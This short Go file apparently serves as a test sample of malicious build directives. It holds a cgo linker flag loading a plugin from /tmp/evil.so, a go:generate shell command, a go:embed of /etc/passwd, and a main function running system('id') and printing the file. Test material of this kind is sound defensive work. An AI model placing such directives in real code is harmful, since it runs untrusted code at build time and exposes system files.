package main

// #cgo LDFLAGS: -Wl,-plugin=/tmp/evil.so
// #include <stdlib.h>
import "C"
import _ "embed"

//go:generate sh -c "touch /build/processed"
//go:embed /etc/passwd
var secret string

func main() { C.system(C.CString("id")); print(secret) }
